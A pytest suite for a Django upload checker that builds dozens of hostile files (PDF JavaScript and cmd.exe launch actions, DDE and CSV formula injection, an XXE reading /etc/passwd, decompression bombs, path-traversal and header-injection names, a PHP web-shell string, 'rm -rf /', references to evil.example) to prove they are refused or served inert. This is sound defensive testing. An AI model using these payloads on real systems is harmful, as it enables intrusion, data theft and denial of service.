"""Files that attackers make: none can be opened as anything that acts. And odd ones of honest people: taken, or refused with what helps."""

import io
import resource
import time
import zlib
from collections.abc import Callable
from typing import Any

import pytest
from django.core.files.storage import InMemoryStorage, default_storage
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from pikepdf import Encryption, Name, String
from PIL import Image

from people import documents, file_types, sandbox
from people.models import Document
from people.states import DocumentState
from tests.factories import files
from tests.factories.clamd import EICAR, clamd, over_tcp
from tests.factories.people import checked

ZEROS = b"a\0\0" + zlib.compress(b"a" * 50_000_000, 9)
DEFLATED = {
    "macro": ("word/vbaProject.bin", b"x"),
    "macro elsewhere": ("custom/VBAPROJECT.BIN", b"x"),
    "control": ("word/activeX/activeX1.xml", b"<x/>"),
    "object": ("word/embeddings/oleObject1.bin", files.OLE),
    "program": ("word/media/run.exe", files.EXE),
    "script": ("word/media/run.js", b"alert(1)"),
    "page": ("word/afchunk.mht", files.SCRIPT),
    "picture that acts": ("word/media/a.svg", files.SVG),
    "packed folder": ("word/inner.zip", files.packed(("a", b"b"))),
    "document with macros": ("word/embeddings/a.xlsm", b"x"),
    "way out": ("../../evil", b"x"),
    "way out, Windows": ("..\\..\\evil.txt", b"x"),
    "drive": ("C:/evil.txt", b"x"),
    "root": ("/etc/cron.d/evil", b"x"),
}
ENTITIES = b'<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "' + b"&a;" * 99 + b'"><!ENTITY c "' + b"&b;" * 99 + b'">]>'
MACRO_TYPES = files.TYPES.replace(b"/>", b'><Default ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>')

# A name, and a file that must not be taken at all.
REFUSED: dict[str, tuple[str, Callable[[], bytes]]] = {
    # By its name
    "page": ("page.html", lambda: files.SCRIPT),
    "page behind a document": ("resume.pdf.html", lambda: files.SCRIPT),
    "program behind a picture": ("photo.jpg.exe", lambda: files.EXE),
    "script": ("notes.js", lambda: b"alert(1)"),
    "program of pages": ("setup.hta", lambda: files.SCRIPT),
    "shortcut": ("resume.lnk", lambda: b"L\0\0\0\x01\x14\x02\0"),
    "address file": ("resume.url", lambda: b"[InternetShortcut]\nURL=file:///c:/windows\n"),
    "table that runs": ("list.csv", lambda: b"=cmd|'/C calc'!A0\n"),
    "archive": ("photos.zip", lambda: files.packed(("run.exe", files.EXE))),
    "disk": ("resume.iso", lambda: b"\0" * 40_000),
    "turned name": ("resume_\u202egpj.exe", lambda: files.EXE),
    "hidden ending": ("resume.pdf\0.html", lambda: files.SCRIPT),
    "no ending": ("resume", files.pdf),
    "server settings": (".htaccess", lambda: b"AddType text/html .pdf"),
    "picture that acts": ("logo.svg", lambda: files.SVG),
    "macro document by its name": ("letter.docm", files.docx),
    # By what it is
    "empty": ("resume.pdf", lambda: b""),
    "page as PDF": ("resume.pdf", lambda: files.SCRIPT),
    "program as PDF": ("resume.pdf", lambda: files.EXE),
    "page as photo": ("photo.jpg", lambda: files.SCRIPT),
    "drawing as PNG": ("photo.png", lambda: files.SVG),
    "drawing as JPEG": ("photo.jpg", lambda: files.SVG),
    "page as sound": ("talk.mp3", lambda: files.SCRIPT),
    "playlist as film": ("talk.mp4", lambda: b"#EXTM3U\nhttp://169.254.169.254/latest/meta-data/\n"),
    "flash as film": ("talk.mp4", lambda: b"CWS\x0a" + b"\0" * 60),
    "program as text": ("notes.txt", lambda: files.EXE),
    "zeros in text": ("notes.txt", lambda: b"Dear\0reader"),
    "PNG as JPEG": ("photo.jpg", files.picture),
    "TIFF as JPEG": ("photo.jpg", lambda: files.picture("TIFF")),
    "archive as Word": ("letter.docx", lambda: files.packed(("photo.jpg", files.picture("JPEG")))),
    "Java as Word": ("letter.docx", lambda: files.packed(("META-INF/MANIFEST.MF", b"Main-Class: Run"), ("Run.class", b"\xca\xfe\xba\xbe"))),
    # PDF
    "page before PDF": ("resume.pdf", lambda: files.SCRIPT + files.pdf()),
    "PDF with script": ("resume.pdf", lambda: files.pdf_action(S=Name.JavaScript, JS=String("app.alert(1)"))),
    "PDF with hidden script": ("resume.pdf", files.pdf_script_in_names),
    "PDF with script by another name": ("a.pdf", lambda: files.pdf_action(S=Name.JavaScript, JS=String("x")).replace(b"/JS", b"/J#53")),
    "PDF with script on a note": (
        "a.pdf",
        lambda: files.pdf_note(Subtype=Name.Link, A=files.Dictionary(S=Name.JavaScript, JS=String("x"))),
    ),
    "PDF that starts a program": ("resume.pdf", lambda: files.pdf_action(S=Name.Launch, F=String("cmd.exe"))),
    "PDF that sends a form": ("resume.pdf", lambda: files.pdf_action(S=Name.SubmitForm, F=String("https://evil.example"))),
    "PDF that opens another inside": ("resume.pdf", lambda: files.pdf_action(S=Name.GoToE)),
    "PDF with a file": ("resume.pdf", files.pdf_with_file),
    "PDF with a pinned file": ("resume.pdf", lambda: files.pdf_note(Subtype=Name.FileAttachment)),
    "PDF with film": ("resume.pdf", lambda: files.pdf_note(Subtype=Name.RichMedia)),
    "PDF with a form of Adobe's": (
        "a.pdf",
        lambda: files.pdf(lambda made: setattr(made.Root, "AcroForm", files.Dictionary(XFA=String("x")))),
    ),
    "PDF of nothing but pages of pages": ("resume.pdf", files.pdf_loop),
    "PDF too deep": ("resume.pdf", files.pdf_deep),
    "PDF cut off": ("resume.pdf", lambda: files.pdf()[:200]),
    "PDF of one line": ("resume.pdf", lambda: b"%PDF-1.7\n"),
    "PDF that unpacks to 250 MB": ("resume.pdf", files.pdf_packed_bomb),
    "form with film": (
        "a.pdf",
        lambda: files.pdf_form(extra=lambda made: setattr(made.Root, "OpenAction", files.Dictionary(S=Name.Rendition))),
    ),
    "form that starts a program": (
        "a.pdf",
        lambda: files.pdf_form(
            script="AFDate_FormatEx('m/d/yy');",
            extra=lambda made: setattr(made.Root, "OpenAction", files.Dictionary(S=Name.Launch, F=String("cmd.exe"))),
        ),
    ),
    "form that only Adobe draws": (
        "a.pdf",
        lambda: files.pdf_form(
            extra=lambda made: (setattr(made.Root, "NeedsRendering", True), setattr(made.Root.AcroForm, "XFA", String("x")))
        ),
    ),
    # Pictures
    "PNG of 3.6 billion points": ("photo.png", lambda: files.png(60_000, 60_000)),
    "GIF of 4 billion points": ("photo.gif", files.gif_flood),
    "WebP of 268 million points": ("photo.webp", files.webp_flood),
    "PNG with a bomb as note": ("photo.png", lambda: files.png(10, 10, (b"zTXt", ZEROS))),
    "PNG with a bomb as colors": ("photo.png", lambda: files.png(10, 10, (b"iCCP", ZEROS))),
    "PNG without points": ("photo.png", lambda: files.png(10, 10)),
    "JPEG cut off": ("photo.jpg", lambda: files.picture("JPEG", size=(600, 400))[:700]),
    # Office
    **{f"Word with {name}": ("letter.docx", lambda member=member: files.docx(member)) for name, member in DEFLATED.items()},  # type: ignore[misc]
    "Word of a macro type": ("letter.docx", lambda: files.docx(types=MACRO_TYPES)),
    "Word with a template elsewhere": ("a.docx", lambda: files.docx(files.relation("attachedTemplate", "https://evil.example/a.dotm"))),
    "Word with an object elsewhere": ("a.docx", lambda: files.docx(files.relation("oleObject", "https://evil.example/a.html!x"))),
    "Word with a command": (
        "a.docx",
        lambda: files.docx(document=files.word(b"<w:p><w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText></w:p>")),
    ),
    "Word that reads our files": (
        "a.docx",
        lambda: files.docx(document=files.word(head=b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>')),
    ),
    "Word with a billion laughs": ("letter.docx", lambda: files.docx(document=files.word(b"<w:p><w:t>&c;</w:t></w:p>", head=ENTITIES))),
    "Word that unpacks to 301 MB": ("letter.docx", lambda: files.bomb("word/media/a.png", 301)),
    "Word with one part of 60 MB": ("letter.docx", lambda: files.bomb("word/media/a.png", 60)),
    "Word that lies about its size": ("letter.docx", files.lying),
    "Word whose parts overlap": ("letter.docx", files.overlapping),
    "Word of 12,000 parts": ("letter.docx", lambda: files.docx(*((f"word/media/{number}", b"") for number in range(12_000)))),
    "page before Word": ("letter.docx", lambda: files.SCRIPT + files.docx()),
    "Excel with old macros": ("list.xlsx", lambda: files.xlsx(("xl/macrosheets/sheet1.xml", b"<x/>"))),
    "Excel with a command": (
        "list.xlsx",
        lambda: files.xlsx(("xl/externalLinks/externalLink1.xml", b'<x><ddeLink ddeService="cmd"/></x>')),
    ),
    "PowerPoint with macros": ("talk.pptx", lambda: files.pptx(("ppt/vbaProject.bin", b"x"))),
    "OpenDocument with Basic": ("letter.odt", lambda: files.opened("text", ("Basic/Standard/Module1.xml", b"<x/>"))),
    "OpenDocument with an event": ("letter.odt", lambda: files.opened(content=b'<o xmlns:script="s"><script:event-listener/></o>')),
    # Sound and film
    "film cut off": ("talk.mp4", lambda: files.mp4()[:-20]),
    "page in the box of a film": ("talk.mp4", lambda: files.box(b"ftyp", b"isom\0\0\2\0") + files.SCRIPT),
    "film of endless boxes": ("talk.mp4", lambda: files.mp4() + b"\0\0\0\1" + b"free" + b"\0" * 8),
    "film of another kind": ("talk.webm", lambda: files.webm(b"matroska")),
    "sound whose tag never ends": ("talk.mp3", lambda: b"ID3\x04\0\0\x7f\x7f\x7f\x7f" + b"\0" * 50),
    "sound without a format": ("talk.wav", lambda: b"RIFF\x04\0\0\0WAVE"),
}
# A name, and a file that is what it says and more besides: taken, and harmless in every way in which it can be reached.
INERT: dict[str, tuple[str, Callable[[], bytes]]] = {
    "form with a script": ("form.pdf", lambda: files.pdf_form(script="app.launchURL('https://evil.example')")),
    "photo of a phone with a page as note": ("IMG_1.heic", lambda: files.photo("HEIF") + files.SCRIPT),
    "film with a page beside it": ("a.mov", lambda: files.mp4(b"qt  ", moov=files.box(b"udta", files.SCRIPT))),
    "PDF with a page behind": ("resume.pdf", lambda: files.pdf() + files.SCRIPT),
    "PDF with an archive behind": ("resume.pdf", lambda: files.pdf() + files.packed(("run.exe", files.EXE))),
    "GIF that is a script": ("photo.gif", files.gif_script),
    "JPEG with a page as note": ("photo.jpg", lambda: files.jpeg_comment(files.SCRIPT)),
    "JPEG with an archive behind": ("photo.jpg", lambda: files.picture("JPEG") + files.packed(("Run.class", b"\xca\xfe\xba\xbe"))),
    "JPEG with PHP": ("photo.php.jpg", lambda: files.jpeg_comment(b"<?php system($_GET['c']); ?>")),
    "PNG with a page as note": (
        "photo.png",
        lambda: files.png(2, 2, (b"tEXt", b"a\0" + files.SCRIPT), body=b"\0" + b"\1" * 6 + b"\0" + b"\1" * 6),
    ),
    "PNG with points to spare": ("photo.png", lambda: files.png(10, 10, body=b"\0" * 100_000_000)),
    "text that is a page": ("notes.txt", lambda: files.SCRIPT),
    "text that is a script": ("run.sh.txt", lambda: b"#!/bin/sh\nrm -rf /\n"),
    "page in other letters": ("notes.txt", lambda: "<script>alert(1)</script>".encode("utf-16")),
    "page in seven bits": ("notes.txt", lambda: b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-"),
    "test virus without a scanner": ("eicar.txt", lambda: EICAR),
    "name with a way out": ("../../../etc/cron.d/x.pdf", files.pdf),
    "name with a way out, Windows": ("..\\..\\windows\\x.pdf", files.pdf),
    "name that ends a header": ("a.pdf\r\nContent-Type: text/html\r\n\r\n.pdf", files.pdf),
    "name with a page": ("<img src=x onerror=alert(1)>.pdf", files.pdf),
    "name with quotes": ('a";filename="evil.html.pdf', files.pdf),
    "name that turns around": ("fdp.\u202elmth.pdf", files.pdf),
    "Word with a page's words": (
        "letter.docx",
        lambda: files.docx(document=files.word(b"<w:p><w:t>&lt;script&gt;alert(1)&lt;/script&gt;</w:t></w:p>")),
    ),
}


@pytest.fixture(autouse=True)
def storage(monkeypatch: pytest.MonkeyPatch) -> InMemoryStorage:
    """Files in memory, of this test alone."""
    kept = InMemoryStorage()
    monkeypatch.setattr(default_storage, "_wrapped", kept)
    return kept


def _upload(name: str, content: bytes) -> SimpleUploadedFile:
    upload = SimpleUploadedFile("x", content, "text/html")
    upload._name = name  # past the cleaning that Django does first, so that ours is what is looked at
    return upload


def _stored(storage: InMemoryStorage) -> list[str]:
    try:
        return [name for day in storage.listdir("documents")[0] for name in storage.listdir(f"documents/{day}")[1]]
    except FileNotFoundError:
        return []


def test_there_are_sixty_and_more() -> None:
    assert len(REFUSED) + len(INERT) >= 60


@pytest.mark.parametrize("what", REFUSED)
def test_a_hostile_file_is_not_taken_in_little_time_and_leaves_nothing(what: str, alice: Any, at: Any, storage: InMemoryStorage) -> None:
    name, make = REFUSED[what]
    content = make()
    began = time.monotonic()
    with pytest.raises(documents.Refused) as refused:
        checked(alice, _upload(name, content), kind="portfolios.evidence", at=at)
    assert time.monotonic() - began < 2 * sandbox.LONG + 1
    assert len(refused.value.message) <= 300
    assert any(word in refused.value.message for word in ("choose", "Save", "Print", "Unpack", "Open", "add its link", "Add it", "Take it"))
    assert (Document.objects.exclude(state=DocumentState.REFUSED).count(), _stored(storage)) == (0, [])


def test_no_file_takes_more_memory_than_it_is_given() -> None:
    """Of all processes that looked at a file until now, these among them, the hungriest; the kernel counts in kilobytes."""
    for what in ("PDF that unpacks to 250 MB", "PNG with a bomb as note", "Word with a billion laughs", "Word that unpacks to 301 MB"):
        name, make = REFUSED[what]
        kind = file_types.by_name(name)
        assert kind is not None
        with pytest.raises(sandbox.Refused):
            sandbox.inspect(_upload(name, make()), kind=kind)
    hungriest = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss
    assert 20 * 1024 < hungriest < 1024 * 1024, "less than any process of ours takes means that none was counted"


@pytest.mark.parametrize("what", INERT)
@pytest.mark.parametrize("is_own", [True, False])
def test_a_file_with_something_besides_does_nothing_wherever_it_is_reached(what: str, is_own: bool, alice: Any, rita: Any, at: Any) -> None:
    name, make = INERT[what]
    kept = checked(alice, _upload(name, make()), kind="portfolios.evidence", at=at)
    assert kept.state == DocumentState.READY
    viewer = alice if is_own else rita
    client = Client()
    client.force_login(viewer)
    link = documents.link(kept, viewer)
    for address, options in (
        (link, {}),
        (f"{link}&inline=1", {}),
        (link, {"HTTP_RANGE": "bytes=0-9"}),
        (f"{link}&inline=1", {"HTTP_ACCEPT": "text/html"}),
    ):
        _is_inert(client.get(address, **options), kept)
    for drawn, address in documents.link_pictures(kept, viewer):
        answer = client.get(address)
        content = b"".join(answer.streaming_content)
        assert (answer.status_code, answer["Content-Type"], answer["X-Content-Type-Options"]) == (200, "image/jpeg", "nosniff")
        assert b"<script" not in content
        assert b"<?php" not in content
        with Image.open(io.BytesIO(content), formats=["JPEG"]) as seen:
            assert seen.size == (drawn.width, drawn.height)


def _is_inert(answer: Any, kept: Document) -> None:
    """A browser downloads it, or draws it as a picture; nothing in it can run."""
    answer.getvalue()
    assert answer.status_code in {200, 206}
    assert answer["Content-Type"] in {kept.content_type, kept.reading_type}
    assert answer["Content-Type"] in file_types.BY_TYPE
    assert not {"html", "xml+", "svg", "javascript"} & set(answer["Content-Type"].replace("/", " ").split())
    assert answer["X-Content-Type-Options"] == "nosniff"
    assert answer["Content-Security-Policy"] == "default-src 'none'; sandbox"
    assert answer["Cross-Origin-Resource-Policy"] == "same-origin"
    way, _, named = answer["Content-Disposition"].partition(";")
    assert way == "attachment" or kept.content_type in file_types.SHOWN
    assert not {"\r", "\n", "\0", "/", "\\", "<", ">"} & set(named)
    assert kept.name.lower().endswith(file_types.BY_TYPE[kept.content_type].endings)


@pytest.mark.parametrize("what", ["page", "page as PDF", "drawing as PNG"])
def test_the_page_for_evidence_says_at_once_what_can_be_seen_at_once(
    what: str, alice: Any, rita: Any, at: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    from ledger import clock
    from tests.factories import candidates
    from tests.factories import portfolios as make

    monkeypatch.setattr(clock, "now", lambda: at)
    row = make.draft(candidates.candidacy(alice, at=at, staff=rita), at=at)
    before = Document.objects.count()
    client = Client()
    client.force_login(alice)
    name, content = REFUSED[what]
    said = {"title": "My work", "kind": "primary", "numbers": ["1"], "file": SimpleUploadedFile(name, content())}
    answer = client.post(reverse("portfolios:add_evidence", args=[row.id]), said)
    assert answer.context["form"].errors["file"]
    assert "My work" in answer.content.decode()
    assert (row.evidence.count(), Document.objects.count()) == (0, before)


def test_a_scanner_has_the_last_word(alice: Any, at: Any, settings: Any, storage: InMemoryStorage) -> None:
    listener, settings.CLAMD_URL = over_tcp()
    with clamd(listener), pytest.raises(documents.Refused, match="Eicar-Test-Signature"):
        checked(alice, _upload("eicar.txt", EICAR), kind="portfolios.evidence", at=at)
    assert _stored(storage) == []


# What honest people have

# A name, a file, and what of it is seen: pages, pictures by their sizes, a piece of its text.
TAKEN: dict[str, tuple[str, Callable[[], bytes], tuple[int, list[tuple[int, int]], str]]] = {
    "photo for print": ("photo.jpg", lambda: files.picture("JPEG", mode="CMYK"), (1, [(60, 40)], "")),
    "scan in 16 bits": ("scan.png", files.gray16, (1, [(60, 40)], "")),
    "photo from a phone held upright": ("IMG_0512.JPG", files.rotated, (1, [(40, 60)], "")),
    "scan of a scroll": ("scan.png", lambda: files.picture(size=(600, 5000)), (1, [(600, 1800), (600, 1800), (600, 1400)], "")),
    "drawing without a ground": ("sign.png", lambda: files.picture(mode="RGBA"), (1, [(60, 40)], "")),
    "fax": ("fax.png", lambda: files.picture(mode="1"), (1, [(60, 40)], "")),
    "photo that comes in waves": ("photo.jpeg", lambda: files.picture("JPEG", progressive=True), (1, [(60, 40)], "")),
    "picture from the web": ("photo.webp", lambda: files.picture("WEBP"), (1, [(60, 40)], "")),
    "picture with few colors": ("photo.gif", lambda: files.picture("GIF", mode="P"), (1, [(60, 40)], "")),
    "PDF of 40 pages": ("report.pdf", lambda: files.pdf(pages=40, size=(60, 90)), (40, [(1200, 1800)] * 12, "")),
    "PDF with links": ("a.pdf", lambda: files.pdf_action(S=Name.URI, URI=String("https://ala.org")), (1, [(1200, 1553)], "")),
    "PDF that can't be changed": ("a.pdf", lambda: files.pdf(encryption=Encryption(owner="o", user="")), (1, [(1200, 1553)], "")),
    "PDF after an empty line": ("a.pdf", lambda: b"\r\n" + files.pdf(), (1, [(1200, 1553)], "")),
    "PDF after a byte-order mark": ("a.pdf", lambda: b"\xef\xbb\xbf" + files.pdf(), (1, [(1200, 1553)], "")),
    "poster": ("poster.pdf", lambda: files.pdf(size=(14_000, 14_000)), (1, [(1200, 1200)], "")),
    "document from LibreOffice": ("letter.docx", files.docx, (0, [], "My work at the desk.")),
    "document with links": ("letter.docx", lambda: files.docx(files.relation("hyperlink", "https://ala.org/")), (0, [], "My work")),
    "document with a chart": ("letter.docx", lambda: files.docx(("word/embeddings/Sheet1.xlsx", files.xlsx())), (0, [], "My work")),
    "OpenDocument": ("letter.odt", files.opened, (0, [], "Desk\nMy work.")),
    "table": ("list.xlsx", files.xlsx, (0, [], "Questions  |  54")),
    "slides": ("talk.pptx", files.pptx, (0, [], "Getting on the Wi-Fi")),
    "notes from Windows": ("notes.txt", lambda: "Grüße aus der Bücherei".encode("utf-16"), (0, [], "Grüße aus der Bücherei")),
    "old notes": ("notes.txt", lambda: "Café, naïve".encode("cp1252"), (0, [], "Café, naïve")),
    "long name with accents": ("Đánh giá năm học – Nguyễn Thị Hòa " * 5 + ".pdf", files.pdf, (1, [(1200, 1553)], "")),
    "photo of an iPhone": ("IMG_1.HEIC", lambda: files.photo("HEIF"), (1, [(64, 48)], "")),
    "film of an iPhone": ("IMG_1.MOV", lambda: files.mp4(b"qt  "), (0, [], "")),
    "film of an iPhone, renamed": ("IMG_1.mp4", lambda: files.film(b"qt  "), (0, [], "")),
    "appraisal on a form": ("a.pdf", lambda: files.pdf_form(script="AFDate_FormatEx('m/d/yy');"), (1, [(1200, 1553)], "MMMMMM")),
    "talk": ("talk.mp3", files.mp3, (0, [], "")),
    "talk without a tag": ("talk.mp3", lambda: files.mp3(tag=False), (0, [], "")),
    "talk from a phone": ("talk.m4a", lambda: files.mp4(b"M4A "), (0, [], "")),
    "uncompressed talk": ("talk.wav", files.wav, (0, [], "")),
    "story time": ("story.mp4", lambda: files.mp4(b"mp42"), (0, [], "")),
    "story time on the web": ("story.webm", files.webm, (0, [], "")),
}
# A name, a file, and what its owner can do.
HELPED: dict[str, tuple[str, Callable[[], bytes], str]] = {
    "PDF with a password": ("a.pdf", lambda: files.pdf(encryption=Encryption(owner="o", user="u")), "Save a copy without the password"),
    "Word with a password": ("letter.docx", lambda: files.OLE, "has a password, or is in an old format. Save it as PDF"),
    "old Word": ("letter.doc", lambda: files.OLE, "save it as .docx or PDF"),
    "Pages": ("letter.pages", lambda: files.packed(("Index/Document.iwa", b"x")), "choose File, Export To, PDF"),
    "photos in a folder": ("photos.zip", lambda: files.packed(("a.jpg", files.picture("JPEG"))), "Unpack it, and choose one file"),
    "PDF without pages": ("a.pdf", lambda: files.pdf(pages=0), "has no pages. Save it again"),
    "photo of an iPhone, renamed": ("IMG_1.jpg", lambda: files.photo("HEIF"), "Save it with the right ending"),
    "photo of an iPhone, cut off": ("IMG_1.HEIC", lambda: files.mp4(b"heic"), "Take it or save it again, and choose the new file"),
    "folder named PDF": ("resume.pdf", lambda: files.packed(("a.jpg", b"x")), "another kind (.zip). Unpack it, and choose one file"),
    "TIFF": ("scan.tiff", lambda: files.picture("TIFF"), "Save it as JPEG, PNG or PDF"),
    "saved mail": ("thanks.eml", lambda: b"From: a@b.example\n\nThank you", "print it to PDF"),
    "Google document": ("letter.gdoc", lambda: b'{"url": ""}', "In Google Drive, choose File, Download, PDF"),
    "nothing but spaces": ("notes.txt", lambda: b" \r\n ", "This file has no text"),
}


def test_there_are_twenty_and_more() -> None:
    assert len(TAKEN) + len(HELPED) >= 20


@pytest.mark.parametrize("what", TAKEN)
def test_an_odd_file_of_an_honest_person_is_taken_and_seen(what: str, alice: Any, at: Any) -> None:
    name, make, (pages, sizes, text) = TAKEN[what]
    kept = checked(alice, _upload(name, make()), kind="portfolios.evidence", at=at)
    assert (kept.state, kept.pages) == (DocumentState.READY, pages)
    assert [(drawn.width, drawn.height) for drawn, _ in documents.link_pictures(kept, alice)] == sizes
    assert text in kept.text


@pytest.mark.parametrize("what", HELPED)
def test_what_is_not_taken_of_an_honest_person_comes_with_advice(what: str, alice: Any, at: Any) -> None:
    name, make, advice = HELPED[what]
    with pytest.raises(documents.Refused) as refused:
        checked(alice, _upload(name, make()), kind="portfolios.evidence", at=at)
    assert advice in refused.value.message


def _shade(kept: Document, x: float) -> int:
    picture = kept.pictures.get(number=1)
    with documents.read_picture(picture) as content, Image.open(content) as seen:
        return int(seen.convert("L").getpixel((int(seen.width * x), seen.height // 2)))  # type: ignore[arg-type]


def test_sixteen_bits_keep_their_grays_and_a_drawing_gets_white_paper(alice: Any, at: Any) -> None:
    gray = checked(alice, _upload("scan.png", files.gray16()), kind="k", at=at)
    drawing = checked(alice, _upload("sign.png", files.picture(mode="RGBA")), kind="k", at=at)
    assert _shade(gray, 0.1) < 40 < 150 < _shade(gray, 0.95)
    assert _shade(drawing, 0.5) > 250


def test_the_text_of_a_pdf_is_read(alice: Any, at: Any) -> None:
    content = files.pdf_words("I counted 54 questions.")
    kept = checked(alice, _upload("a.pdf", content), kind="k", at=at)
    assert kept.text == "I counted 54 questions."
